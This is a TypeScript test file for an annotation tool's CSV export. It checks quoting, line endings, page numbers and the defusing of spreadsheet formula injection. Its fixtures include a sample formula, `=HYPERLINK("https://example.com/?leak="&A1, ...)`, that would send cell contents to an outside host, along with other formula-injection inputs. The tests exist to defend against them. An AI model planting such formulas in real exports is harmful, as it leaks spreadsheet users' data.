import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { datasetToModel, parseDataset } from '../dataset/index.ts';
import { buildFixtureModel, CARLA } from '../export-fixture.ts';
import { asAnnotatorId } from '../../model/ids.ts';
import { BUILT_IN_LABELS } from '../../model/labels.ts';
import { annotateQuote, makeDocument } from '../dataset/test-support.ts';
import { CSV_COLUMNS, encodeCsv, FORMULA_START, writeSpreadsheetCsv } from './encode.ts';

const corpusRoot = new URL('../../../../shared/corpus/', import.meta.url);
const model = buildFixtureModel((name) => readFileSync(new URL(name, corpusRoot), 'utf8'));

/** The rows as a spreadsheet or pandas would read them: BOM dropped, RFC 4180 unquoted. */
function rowsOf(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('encodeCsv', () => {
  it('writes the golden file for the small dataset fixture', async () => {
    const text = readFileSync(
      new URL('../dataset/fixtures/valid-small.json', import.meta.url),
      'utf8',
    );
    const parsed = parseDataset(text);
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.error));
    await expect(encodeCsv(datasetToModel(parsed.value))).toMatchFileSnapshot(
      'fixtures/valid-small.csv',
    );
  });

  it('round-trips every value through a CSV parser when formulas are left alone', () => {
    const rows = rowsOf(encodeCsv(model, { defuseFormulas: false }));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const titles = new Map(model.documents.map((document) => [document.id, document.title]));
    const names = new Map(model.annotators.map((annotator) => [annotator.id, annotator.name]));
    const labelNames = new Map<string, string>(model.labels.map((label) => [label.id, label.name]));
    const documentOrder = model.documents.map((document) => document.id);
    const inFileOrder = [...model.annotations].sort(
      (a, b) =>
        documentOrder.indexOf(a.documentId) - documentOrder.indexOf(b.documentId) ||
        a.start - b.start,
    );
    const expected = inFileOrder.map((a) => [
      a.documentId,
      titles.get(a.documentId)!,
      a.label,
      labelNames.get(a.label) ?? a.label,
      String(a.start),
      String(a.end),
      '', // no pages: these documents are not from PDF
      a.quote,
      a.annotator,
      names.get(a.annotator)!,
      a.note,
      a.createdAt,
      a.updatedAt,
    ]);
    expect(rows.slice(1)).toEqual(expected);
  });

  it('ends every row with CRLF and quotes line breaks, quotes and commas inside a value', () => {
    const csv = encodeCsv(model);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain('"Official line, ""sincere"" is doing work here;\nsee the');
    expect(csv).toContain(`"${CARLA.name.replaceAll('"', '""')}"`);
  });

  it('defuses cells a spreadsheet would run as a formula, and nothing else', () => {
    const rows = rowsOf(encodeCsv(model)).slice(1);
    const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(
      rows.map((row) => row[column('quote')]).filter((quote) => quote!.startsWith("'")),
    ).toEqual(["'@ZMnatsakanyan"]);
    expect(rows.map((row) => row[column('note')]).filter((note) => note!.startsWith("'"))).toEqual([
      `'=HYPERLINK("https://example.com/?leak="&A1, "source")`,
    ]);
    expect(rows.every((row) => /^\d+$/.test(row[column('start')]!))).toBe(true);
  });

  it('defuses a formula even when a line break follows it', () => {
    const csv = encodeCsv({
      ...model,
      annotations: [{ ...model.annotations[0]!, note: '=1+1\nsecond line' }],
    });
    expect(rowsOf(csv)[1]![CSV_COLUMNS.indexOf('note')]).toBe("'=1+1\nsecond line");
  });

  it('writes the header alone when there are no annotations', () => {
    expect(encodeCsv({ ...model, annotations: [] })).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
  });
});

describe('encodeCsv, pages', () => {
  it('gives each annotation of a document from PDF the page its span starts on', () => {
    const document = {
      ...makeDocument('Report', 'First page text.\nSecond page text.'),
      pageStarts: [0, 17],
    };
    const annotator = { id: asAnnotatorId('ana'), name: 'Ana' };
    const annotations = [
      annotateQuote(document, 'First', { id: 'a', label: 'claim', annotator: 'ana' }),
      annotateQuote(document, 'Second', { id: 'b', label: 'claim', annotator: 'ana' }),
    ];
    const model = {
      documents: [document],
      annotations,
      annotators: [annotator],
      labels: [...BUILT_IN_LABELS],
    };
    const rows = rowsOf(encodeCsv(model));
    const page = CSV_COLUMNS.indexOf('page');
    expect(rows.slice(1).map((row) => [row[CSV_COLUMNS.indexOf('quote')], row[page]])).toEqual([
      ['First', '1'],
      ['Second', '2'],
    ]);
  });
});

describe('writeSpreadsheetCsv, separators of other locales', () => {
  it('quotes a text cell holding ; or a tab, so a formula after it never starts a cell', () => {
    const csv = writeSpreadsheetCsv(
      ['note', 'count'],
      [
        ['see;=HYPERLINK(A9&B9);', 3],
        ['tab\t@SUM(A1)', 4],
        ['plain words', 5],
      ],
      FORMULA_START,
    );
    expect(csv.slice(1).split('\r\n')).toEqual([
      'note,count',
      '"see;=HYPERLINK(A9&B9);",3',
      '"tab\t@SUM(A1)",4',
      'plain words,5',
      '',
    ]);
  });
});
